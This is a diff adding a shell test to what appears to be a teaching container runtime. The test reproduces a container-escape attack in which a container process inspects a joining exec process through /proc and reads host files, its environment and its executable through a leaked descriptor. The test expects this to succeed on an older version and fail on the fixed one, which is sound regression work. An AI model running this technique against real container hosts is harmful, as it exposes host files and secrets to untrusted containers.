@@ -319,6 +319,57 @@ exe_attack() { # RUNTIME TRY
 	done
 }
 
+# `exec` with a descriptor of the host's / open (fd 7): its process that
+# joins the container is held past harden(), where it has the container's
+# capabilities: its execvp() fails (which leaves it as it was), and it
+# waits in its first write, the error line, to a full pipe (its stderr).
+# Meanwhile another process of the container looks into its /proc/PID,
+# once it sees there the capabilities it has itself. Prints the joining
+# process's CapEff, then what could be read: the host's Makefile through
+# its fd 7, its environ, its exe.
+join_attack() { # RUNTIME
+	local id front full=$BATS_TEST_TMPDIR/full
+	id=$("$1" run -d busybox sleep 1000)
+	rm -f "$full"
+	mkfifo "$full"
+	exec 8<>"$full"
+	head -c 65536 /dev/zero >&8
+	(exec 7</ && exec "$1" exec "$id" /no/such/joiner 2>&8 3>&-) &
+	front=$!
+	# (joine[r]: the pattern does not find this shell itself)
+	run "$1" exec "$id" sh -c 'own=$(grep CapEff /proc/self/status)
+	for i in $(seq 100); do
+		p=$(grep -l "/no/such/joine[r]" /proc/[0-9]*/cmdline 2>/dev/null) &&
+			p=${p%/cmdline} && [ "$(grep CapEff "$p/status")" = "$own" ] && break
+		sleep 0.1
+	done
+	grep CapEff "$p/status" | tr -s "\t" " "
+	cat "$p/fd/7$0/Makefile" >/dev/null 2>&1 && echo fd
+	(exec 3<"$p/environ") 2>/dev/null && echo environ
+	readlink "$p/exe" >/dev/null 2>&1 && echo exe
+	echo done' "$REPO"
+	head -c 65536 <&8 >/dev/null
+	exec 8>&-
+	wait "$front" || true
+	"$1" rm -f "$id"
+}
+
+@test "attack then fix: a process of the container reads the host's files through the fds of exec's process as it joins" {
+	local net09=$BATS_TEST_TMPDIR/net-09-overlay all
+	printf '#!/bin/sh\nexec nsenter --net=/run/netns/%s %q "$@"\n' \
+		"$HOSTNS" "$REPO/bin/09-overlay" >"$net09"
+	chmod +x "$net09"
+	all=$(awk '$1 == "CapBnd:" { print $2 }' /proc/self/status)
+	join_attack "$net09"
+	echo "$output" >&2
+	[ "$output" = "$(printf 'CapEff: %s\nfd\nenviron\nexe\ndone' "$all")" ]
+	# in 10, it has no more capabilities than the container, and is
+	# not dumpable (CVE-2016-9962): its /proc/PID files are refused
+	join_attack "$NET"
+	echo "$output" >&2
+	[ "$output" = "$(printf 'CapEff: %s\ndone' "$DEFAULT_CAPS")" ]
+}
+
 @test "08-net's tests pass against 10" {
 	assert_earlier_file_passes 08-net.bats 15
 }
